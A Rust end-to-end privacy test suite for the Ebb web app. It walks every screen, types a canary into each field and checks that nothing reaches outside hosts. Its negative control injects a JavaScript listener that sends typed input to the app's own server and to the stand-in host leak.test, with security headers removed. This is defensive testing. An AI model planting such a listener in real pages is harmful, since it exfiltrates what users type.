//! Walks through all of Ebb with a fake internet that records everything: the browser requests only
//! Ebb's own files.

use std::collections::BTreeSet;

use anyhow::{Result, bail, ensure};
use ebb_e2e::{
    Browser, Ears, Network, Person, Setting, apart, in_every_engine, in_its_own_browser,
};
use serde_json::json;
use xtask::server::{Seen, Site};

use super::canary::{CANARY, forms_in};
use super::chatter::{is_chatter, is_theirs};

/// A selector for every field into which a person can write, visible or not.
const FIELDS: &str = "textarea, [contenteditable], input:not([type=radio], [type=checkbox], [type=range], [type=file], [type=date], [type=time])";

in_its_own_browser! {
    nothing_said_in_spanish_is_heard_anywhere
}

in_every_engine! {
    nothing_said_is_heard_anywhere
}

async fn nothing_said_is_heard_anywhere(browser: Browser) -> Result<()> {
    if !apart(Network::Ears)? {
        return Ok(());
    }
    let ears = Ears::open()?;
    in_a_page(browser, &ears, "", ["en", "es"]).await?;
    ears.forgets();
    words_told_to_our_own_server_or_to_somebody_else_are_heard(browser, &ears).await
}

async fn nothing_said_in_spanish_is_heard_anywhere() -> Result<()> {
    if !apart(Network::Ears)? {
        return Ok(());
    }
    in_a_page(Browser::Chromium, &Ears::open()?, "es/", ["es", "en"]).await
}

async fn in_a_page(
    browser: Browser,
    ears: &Ears,
    page: &'static str,
    [own, other]: [&str; 2],
) -> Result<()> {
    let person = Person::visiting_with_worker(browser, page).await?;
    // In one of the two languages all taps but repeated refusals are real ones, in case only those start a
    // request.
    let person = if page.is_empty() { person.by_hand() } else { person };
    person.until_shown("[data-device=ready]").await?;
    // A language is asked for when it is first chosen, and the page of records when it is first opened.
    person.speaks(other).await?;
    person.speaks(own).await?;
    person.opens_records().await?;
    person.tap("[data-back]").await?;
    person.tap("[data-back]").await?;
    let ready = person.place.ebb.request_count();
    goes_through_everything(&person).await?;
    // Then a change of language and an import, from cached files.
    person.tap("[data-back]").await?;
    person.speaks(other).await?;
    brings_a_file(&person).await?;
    person.loads_anew().await?;
    let found = told(&person, ears, browser, ready);
    ensure!(found.is_empty(), "{}", found.join("\n"));
    Ok(())
}

/// The negative control: a build that sends what is typed to our own server, in base64, and to
/// another server, without the headers that would stop it.
async fn words_told_to_our_own_server_or_to_somebody_else_are_heard(
    browser: Browser,
    ears: &Ears,
) -> Result<()> {
    let leak = "addEventListener('input', ({ target: { value } }) => {
        fetch('/?' + btoa('x' + unescape(encodeURIComponent(value))));
        new Image().src = 'http://leak.test/' + encodeURIComponent(value);
    });";
    let wanted = ["base64", "asked", "percent", "leak.test"];
    let leaky = |site: Site| {
        let path = site.path_of("/boot.*.js");
        let script = site.text_of(&path) + leak;
        // Without the service worker, which would answer some of the requests itself.
        site.renamed(&path, script.into_bytes())
            .without("/sw.js")
            .without_header("Content-Security-Policy")
            .without_header("Connection-Allowlist")
            .without_header("Cross-Origin-Embedder-Policy")
    };
    let person = Person::arriving(browser, &Setting::default(), leaky).await?;
    person.until_ready().await?;
    let ready = person.place.ebb.request_count();
    person.checks_in(7, &["bored"]).await?;
    person.starts("my-reasons").await?;
    person.writes("#stage textarea", CANARY).await?;
    for _ in 0..300 {
        let found = told(&person, ears, browser, ready).join("\n");
        if wanted.iter().all(|part| found.contains(part)) {
            return Ok(());
        }
        // A round trip to the browser, to wait for its request.
        person.js("return 1").await?;
    }
    bail!("the leak was not found, only {:?}", told(&person, ears, browser, ready))
}

/// Visits every screen and writes the canary into every text field.
async fn goes_through_everything(person: &Person) -> Result<()> {
    let names = format!(
        "return [...document.querySelectorAll({})].filter((it) => it.checkVisibility()).map((it) => it.name)",
        json!(FIELDS)
    );
    let mut fields = BTreeSet::new();
    person
        .walks(async |person: &Person, _: &str| {
            for name in person.js(&names).await?.as_array().into_iter().flatten() {
                person.writes(&format!("[name={name}]"), CANARY).await?;
                fields.insert(name.to_string());
            }
            Ok(())
        })
        .await?;
    // When a screen gets a new text field, the walk above fills it, and it has to be added here.
    ensure!(
        fields.iter().eq(["\"new-passphrase\"", "\"own-words\""]),
        "the text fields are {fields:?}"
    );
    Ok(())
}

/// Imports a file that has the canary as its text and in its name.
async fn brings_a_file(person: &Person) -> Result<()> {
    let file = tempfile::Builder::new().prefix(CANARY).suffix(".txt").tempfile()?;
    std::fs::write(file.path(), CANARY)?;
    person.tap("[data-ask=history]").await?;
    person.opens_records().await?;
    person.brings_file(file.path()).await?;
    person.tap("[data-back]").await?;
    person.tap("[data-back]").await
}

/// A description of every request that is more than a request for one of Ebb's own files.
fn told(person: &Person, ears: &Ears, browser: Browser, ready: usize) -> Vec<String> {
    let ebb = &person.place.ebb;
    let mut found = Vec::new();
    let requests = ebb.requests();
    for (place, request) in requests.iter().enumerate() {
        if let Some(why) = more_than_a_file(request, ebb.has(&request.path)) {
            found.push(format!("{why}: {request:?}"));
        }
        let looks_for_newer =
            request.path == "/sw.js" && request.header("Service-Worker").is_some();
        if place >= ready && !looks_for_newer {
            found.push(format!("asked after Ebb was ready: {request:?}"));
        }
    }
    let heard = ears.so_far();
    let outside = heard.said.iter().flatten().copied();
    let names = heard.names.iter().flat_map(|name| name.bytes());
    let bytes: Vec<u8> = ebb.heard().into_iter().chain(outside).chain(names).collect();
    found.extend(forms_in(CANARY, &bytes).into_iter().map(|form| format!("the canary, {form}")));
    for strategy in ebb_content::pack().strategies {
        let forms = forms_in(strategy.id.as_str(), &bytes).into_iter();
        found.extend(forms.map(|form| format!("{}, {form}", strategy.id)));
    }
    let strangers = heard.names.iter().filter(|name| !is_theirs(browser, name));
    found.extend(strangers.map(|name| format!("somebody else's name: {name}")));
    found.extend(heard.numbers.iter().map(|number| format!("somebody else's address: {number}")));
    for said in &heard.said {
        let text = String::from_utf8_lossy(said);
        // The first bytes of a connection name its server, even if the rest is encrypted.
        if !is_chatter(browser, &text) {
            found.push(format!("said to somebody else: {text:.200}"));
        }
    }
    found
}

fn more_than_a_file(request: &Seen, is_ours: bool) -> Option<&'static str> {
    let told = |name| request.header(name).is_some();
    // When two of the browsers look for a newer service worker, they send its own address, or its
    // site's, as the referrer.
    let host = request.header("Host").unwrap_or_default();
    let names = ["", "sw.js"].map(|path| format!("http://{host}/{path}"));
    let asks = request.header("Referer").unwrap_or_default();
    let itself = request.path == "/sw.js" && names.iter().any(|name| name == asks);
    [
        (request.method != "GET", "not a GET"),
        (!is_ours, "no file of ours"),
        (request.query.is_some(), "asked with a query"),
        (request.body_len > 0, "asked with a body"),
        (told("Cookie"), "a cookie"),
        (told("Referer") && !itself, "a referrer"),
    ]
    .into_iter()
    .find(|(is_so, _)| *is_so)
    .map(|(_, why)| why)
}
